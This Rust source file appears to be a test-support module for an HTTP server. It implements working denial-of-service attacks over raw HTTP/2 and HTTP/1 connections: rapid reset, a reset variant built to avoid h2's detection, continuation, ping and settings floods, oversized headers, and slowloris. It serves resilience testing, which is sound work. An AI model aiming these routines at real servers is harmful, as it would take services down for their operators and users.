//! One connection's worth of each attack: it ends when the server closes the connection.

use std::{net::SocketAddr, pin::Pin, time::Duration};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::sleep,
};

use crate::support::raw::{
    CONTINUATION, END_HEADERS, END_STREAM, GET, HEADERS, PING, PREFACE, Peer, RST_STREAM, SETTINGS, frame,
    get,
};

pub(super) type Attack = fn(SocketAddr) -> Pin<Box<dyn Future<Output = ()> + Send>>;

async fn connect(address: SocketAddr) -> TcpStream {
    loop {
        match TcpStream::connect(address).await {
            Ok(stream) => return stream,
            Err(_) => sleep(Duration::from_millis(10)).await,
        }
    }
}

/// Says the preface, and what `next` gives, as fast as the server takes it and reads the answers.
async fn flood(address: SocketAddr, mut next: impl FnMut() -> Vec<u8> + Send) {
    let mut io = connect(address).await;
    let (mut read, mut write) = io.split();
    let say = async {
        write.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).await?;
        loop {
            write.write_all(&next()).await?;
        }
    };
    let hear = async {
        let mut answers = vec![0; 64 << 10];
        while read.read(&mut answers).await? > 0 {}
        Ok(())
    };
    let _: Result<(), std::io::Error> = tokio::select! {
        said = say => said,
        heard = hear => heard,
    };
}

pub(super) async fn rapid_reset(address: SocketAddr) {
    let mut stream = 1;
    flood(address, move || {
        let mut bytes = Vec::new();
        for _ in 0..50 {
            bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET));
            bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            stream += 2;
        }
        bytes
    })
    .await;
}

/// Cancels streams that the service has already been called for, so that `h2` finds nothing wrong with it.
pub(super) async fn patient_reset(address: SocketAddr) {
    let mut peer = Peer::greet(connect(address).await).await;
    for batch in 0.. {
        let streams = || (0..50_u32).map(|i| (batch * 50 + i) * 2 + 1);
        let headers = streams().flat_map(|id| frame(HEADERS, END_HEADERS | END_STREAM, id, &get("/never")));
        let bytes: Vec<u8> = headers.chain(frame(PING, 0, 0, b"attacker")).collect();
        if peer.write(&bytes).await.is_err() {
            return;
        }
        loop {
            match peer.read().await {
                None => return,
                Some(frame) if frame.kind == PING => break,
                Some(_) => {}
            }
        }
        let resets: Vec<u8> =
            streams().flat_map(|id| frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())).collect();
        if peer.write(&resets).await.is_err() {
            return;
        }
    }
}

pub(super) async fn continuation_flood(address: SocketAddr) {
    let mut begun = false;
    flood(address, move || {
        if begun {
            return frame(CONTINUATION, 0, 1, &[0; 0]).repeat(100);
        }
        begun = true;
        frame(HEADERS, END_STREAM, 1, GET)
    })
    .await;
}

pub(super) async fn ping_flood(address: SocketAddr) {
    flood(address, || frame(PING, 0, 0, b"attacker").repeat(100)).await;
}

pub(super) async fn settings_flood(address: SocketAddr) {
    let mut window = 0_u32;
    flood(address, move || {
        let mut bytes = Vec::new();
        for _ in 0..100 {
            window = (window + 1) % 1_000;
            bytes.extend(frame(SETTINGS, 0, 0, &[&[0, 4][..], &(65_535 + window).to_be_bytes()].concat()));
        }
        bytes
    })
    .await;
}

/// Over HTTP/2 as one byte each, `:method: GET` from HPACK's table, and then over HTTP/1 as lines.
pub(super) async fn many_headers(address: SocketAddr) {
    let mut stream = 1;
    flood(address, move || {
        let mut bytes = frame(HEADERS, END_STREAM, stream, GET);
        for _ in 0..9 {
            // `accept-encoding: gzip, deflate`
            bytes.extend(frame(CONTINUATION, 0, stream, &[0x90; 11_111]));
        }
        bytes.extend(frame(CONTINUATION, END_HEADERS, stream, &[0x90]));
        stream += 2;
        bytes
    })
    .await;
    let mut io = connect(address).await;
    let head = "GET / HTTP/1.1\r\nhost: test\r\n".to_owned() + &"x: y\r\n".repeat(100_000);
    let _ = io.write_all(head.as_bytes()).await;
    let _ = io.read_to_end(&mut Vec::new()).await;
}

/// HTTP/2, and no request.
pub(super) async fn idle(address: SocketAddr) {
    let mut io = connect(address).await;
    let _ = io.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[]), &frame(SETTINGS, 1, 0, &[])].concat()).await;
    let _ = io.read_to_end(&mut Vec::new()).await;
}

/// A byte of a head at a time.
pub(super) async fn slowloris(address: SocketAddr) {
    let mut io = connect(address).await;
    for byte in b"GET / HTTP/1.1\r\nhost: test\r\nx-slow: ".iter().chain([b'x'].iter().cycle()) {
        if io.write_all(&[*byte]).await.is_err() {
            return;
        }
        sleep(Duration::from_millis(200)).await;
    }
}
